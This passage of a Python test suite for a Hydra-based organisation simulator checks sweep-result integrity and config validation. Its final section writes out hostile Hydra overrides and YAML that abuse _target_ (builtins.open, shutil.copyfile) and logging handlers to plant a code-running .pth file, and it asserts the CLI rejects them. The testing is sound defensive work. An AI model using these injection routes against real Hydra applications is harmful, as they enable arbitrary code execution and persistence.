    for num in range(3):
        summary = run_job(
            {**TINY, "replicates": 2, "regime": {"name": REGIMES3[num]}},
            sweep / str(num),
            overrides=[f"regime={REGIMES3[num]}"],
            job={"num": num, "sweep_id": sid},
        )
        assert summary["status"] == "ok"
        assert summary["identity"] == {
            "sweep_id": sid,
            "num": num,
            "config_hash": summary["config_hash"],
        }
    return sweep


REGIMES3 = ["broadcast", "conversational", "hybrid"]


def _jobs_table(sweep):
    from sim.studies.aggregate import aggregate

    report = aggregate(sweep, sweep.parent / "agg", plots=False, timeseries=False, dataset=False)
    return report, pd.read_csv(sweep.parent / "agg" / "jobs.csv")


def test_swapped_results_are_refused(sweep_of_three):
    a, b = sweep_of_three / "0", sweep_of_three / "1"
    for name in (SUMMARY_FILE, METRICS_FILE):
        (a / name).rename(a / "swap")
        (b / name).rename(a / name)
        (a / "swap").rename(b / name)
    report, jobs = _jobs_table(sweep_of_three)
    assert report.ok == 1 and report.failed == 2
    assert jobs["error"].fillna("").str.contains("is the result of job").sum() == 2


@pytest.mark.parametrize("how", ["copy", "link"])
def test_a_copied_or_linked_job_folder_is_not_one_more_replicate(sweep_of_three, how):
    import shutil

    if how == "copy":
        shutil.copytree(sweep_of_three / "2", sweep_of_three / "2b")
    else:
        (sweep_of_three / "7").symlink_to(sweep_of_three / "2")
    report, jobs = _jobs_table(sweep_of_three)
    assert report.ok == 3
    if how == "copy":
        copy = jobs[jobs["job_dir"].str.endswith("/2b")]
        assert list(copy["status"]) == ["failed"]
        assert "a copy of job" in copy["error"].iloc[0] and "2b" in copy["error"].iloc[0]
    else:
        assert len(jobs) == 3
        assert any("a link to" in p and "/2" in p for p in report.problems)


def test_a_summary_from_another_sweep_or_edited_is_refused(sweep_of_three, tmp_path):
    summary = json.loads((sweep_of_three / "1" / SUMMARY_FILE).read_text())
    summary["identity"]["sweep_id"] = "another"
    (sweep_of_three / "1" / SUMMARY_FILE).write_text(json.dumps(summary))
    summary = json.loads((sweep_of_three / "2" / SUMMARY_FILE).read_text())
    summary["config"]["regime"]["name"] = "broadcast"
    (sweep_of_three / "2" / SUMMARY_FILE).write_text(json.dumps(summary))
    (sweep_of_three / "0" / ".hydra").mkdir()
    (sweep_of_three / "0" / ".hydra" / "overrides.yaml").write_text("- regime=hybrid\n")
    report, jobs = _jobs_table(sweep_of_three)
    errors = " | ".join(jobs["error"].fillna(""))
    assert report.ok == 0
    assert "comes from sweep another" in errors and "(edited)" in errors
    assert ".hydra/overrides.yaml says ['regime=hybrid']" in errors


def test_a_symlink_loop_is_skipped_with_a_warning(sweep_of_three, caplog):
    (sweep_of_three / "loop").symlink_to(sweep_of_three)
    (sweep_of_three / "self").symlink_to("self")  # ELOOP
    report, _ = _jobs_table(sweep_of_three)
    assert report.ok == 3
    assert any("a loop" in p for p in report.problems)
    assert any("self: skipped" in p for p in report.problems)


# --------------------------------------------------------------------------- 7. linear checks


def test_ten_thousand_interventions_are_checked_in_one_pass(monkeypatch):
    import sim.config.interventions as iv

    calls = []
    original = iv.apply_changes
    monkeypatch.setattr(iv, "apply_changes", lambda *a: calls.append(1) or original(*a))
    ivs = [
        {"at": i % 100, "set": {"openness.internal": (i % 97) / 100, "regime": REGIMES3[i % 3]}}
        for i in range(10_000)
    ]
    cfg = to_config({"steps": 100, "interventions": ivs})
    # No re-composition per item: the audit's quadratic cost (15 s for 100, over 600 s for
    # 20,000) came from composing the whole configuration once per intervention.
    assert len(cfg.interventions) == 10_000 and not calls


def test_the_one_pass_check_agrees_with_composition():
    from sim.config.interventions import _apply_fast, apply_changes

    cfg = dataclasses_replace_interventions(to_config({"steps": 50}))
    steps = [
        {"regime": "conversational"},
        {"openness.internal": 0.3, "regime.mix": 0.8},
        {"hierarchy": "flat"},
        {"regime": "broadcast", "network.rewire": 0.2},
    ]
    fast = slow = cfg
    for change in steps:
        fast, slow = _apply_fast(fast, change), apply_changes(slow, change)
        assert fast == dataclasses_replace_interventions(slow)
    with pytest.raises(ConfigError, match="cannot change org.size"):
        _apply_fast(cfg, {"org.size": 10})


def dataclasses_replace_interventions(cfg):
    import dataclasses

    return dataclasses.replace(cfg, interventions=[])


def test_a_wide_chart_header_is_read_in_linear_time(tmp_path):
    from sim.org.orgchart import OrgChartError, load_org_chart

    columns = ["id", "manager_id", "unit"] + [f"c{i}" for i in range(200_000)]
    chart = tmp_path / "wide.csv"
    chart.write_text(",".join([*columns, "c7"]) + "\na,,x\nb,a,x\n")
    # 200,000 columns: the old quadratic check took minutes here (the audit: 3.5 min for a
    # 1.4 MB header); the linear one answers at once. Counted lines bound the Python work.
    with counting_lines() as seen, pytest.raises(OrgChartError, match="column 'c7' appears twice"):
        load_org_chart(chart)
    assert seen.count < 50 * len(columns)
    (tmp_path / "bad.csv").write_text(",".join(columns[2:]) + "\na,x\n")
    with pytest.raises(OrgChartError, match=r"and 199989 more; required") as err:
        load_org_chart(tmp_path / "bad.csv")
    assert len(str(err.value)) < 1000


# --------------------------------------------------------------------------- 9. small ones


@pytest.mark.parametrize(
    "update, match",
    [
        ({"network": {"lam": 1e18}}, r"network\.lam=1e\+18 is out of range: a number from 0\.01"),
        ({"network": {"zeta": 1e-9}}, r"network\.zeta=1e-09 is out of range"),
        ({"seed": 1.5}, r"seed"),
        ({"seed": 2**63}, r"seed=9223372036854775808 is out of range"),
        ({"seed": 2**80}, r"seed=1208925819614629174706176 is out of range"),
        ({"seed": -1}, r"seed=-1 is out of range"),
        ({"scenario": {"name": "a\x00b"}}, r"scenario\.name=.*control character '\\x00'"),
        ({"scenario": {"name": "two\nlines"}}, r"scenario\.name=.*control character '\\n'"),
        ({"scenario": {"description": "\x1b[31mred"}}, r"scenario\.description=.*'\\x1b'"),
    ],
)
def test_absurd_values_and_control_characters_are_refused_naming_the_key(update, match):
    with pytest.raises(ConfigError, match=match):
        to_config(update)


def test_seeds_of_the_api_and_numpy_scalars():
    from sim import simulate

    with pytest.raises(ConfigError, match=r"seed=1\.5 is a float"):
        simulate(AgoraConfig(seed=1.5))
    with pytest.raises(ConfigError, match=r"seed=9223372036854775808 is out of range"):
        simulate(AgoraConfig(seed=2**63))
    assert to_config({"seed": np.int64(5), "network": {"lam": np.float32(0.5)}}).seed == 5
    assert to_config({"scenario": {"description": "two\nlines\tand a tab"}})


def test_a_null_callback_group_is_one_line():
    with pytest.raises(ConfigError, match=r"~hydra/callbacks") as err:
        load_config(["hydra/callbacks=null"])
    assert "\n" not in str(err.value)


@pytest.mark.slow
def test_an_output_folder_that_cannot_be_written_is_one_line(tmp_path):
    (tmp_path / "file").write_text("x")
    proc = cli(["steps=1", "org.size=30", f"hydra.run.dir={tmp_path / 'file' / 'run'}"])
    assert proc.returncode != 0 and "Traceback" not in proc.stderr
    assert "hydra.run.dir=" in proc.stderr and "cannot write there" in proc.stderr


def test_fault_hooks_live_in_the_tests_not_the_shipped_code():
    for path in (ROOT / "sim").rglob("*.py"):
        assert "AGORA_FAIL_IF" not in path.read_text(), path


# --------------------------------------------------------------------------- 10. code routes


_EVIL_YAML = {
    "launcher": "defaults:\n  - override /hydra/launcher: pool\nhydra:\n  launcher:\n"
    "    x: {{_target_: builtins.open, file: {victim}, mode: w}}\n",
    "logging": "hydra:\n  job_logging:\n    handlers:\n      x: {{class: logging.FileHandler, "
    "filename: {pth}, mode: a, formatter: simple}}\n    root: {{handlers: [x]}}\n",
}


def _routes(tmp_path):
    victim, pth = tmp_path / "victim.txt", tmp_path / "agora_evil.pth"
    source = tmp_path / "payload.pth"
    source.write_text(f"import os; open({str(tmp_path / 'ran')!r}, 'w').write('ran')\n")
    return (
        {
            "launcher _target_": [
                "hydra/launcher=pool",
                "+hydra.launcher.x._target_=builtins.open",
                f"+hydra.launcher.x.file={victim}",
                "+hydra.launcher.x.mode=w",
            ],
            "sweeper _target_": [
                "+hydra.sweeper.x._target_=shutil.copyfile",
                f"+hydra.sweeper.x.src={source}",
                f"+hydra.sweeper.x.dst={pth}",
            ],
            "job_logging .pth": [
                "+hydra.job_logging.handlers.x.class=logging.FileHandler",
                f"+hydra.job_logging.handlers.x.filename={pth}",
                "+hydra.job_logging.handlers.x.mode=a",
                "+hydra.job_logging.root.handlers=[x]",
            ],
            "experiment launcher": ["+experiment=evil_launcher"],
            "experiment logging": ["+experiment=evil_logging"],
        },
        victim,
        pth,
    )


@pytest.mark.slow
@pytest.mark.parametrize(
    "route",
    [
        "launcher _target_",
        "sweeper _target_",
        "job_logging .pth",
        "experiment launcher",
        "experiment logging",
    ],
)
def test_the_five_code_execution_routes_run_nothing(tmp_path, route):
    routes, victim, pth = _routes(tmp_path)
    victim.write_text("keep")
    user = tmp_path / "u" / "experiment"
    user.mkdir(parents=True)
    for name, text in _EVIL_YAML.items():
        (user / f"evil_{name}.yaml").write_text(
            "# @package _global_\n" + text.format(victim=victim, pth=pth)
        )
    before = _site_packages_pth()
    proc = cli(
        [
            "-m",
            "steps=1",
            "org.size=30",
            f"hydra.sweep.dir={tmp_path / 'sweep'}",
            f"hydra.searchpath=[file://{tmp_path / 'u'}]",
            *routes[route],
        ]
    )
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "invalid configuration" in proc.stderr.lower() and "Traceback" not in proc.stderr
    assert victim.read_text() == "keep"
    assert not pth.exists() and not (tmp_path / "ran").exists()
    assert _site_packages_pth() == before
    assert not (tmp_path / "sweep").exists()
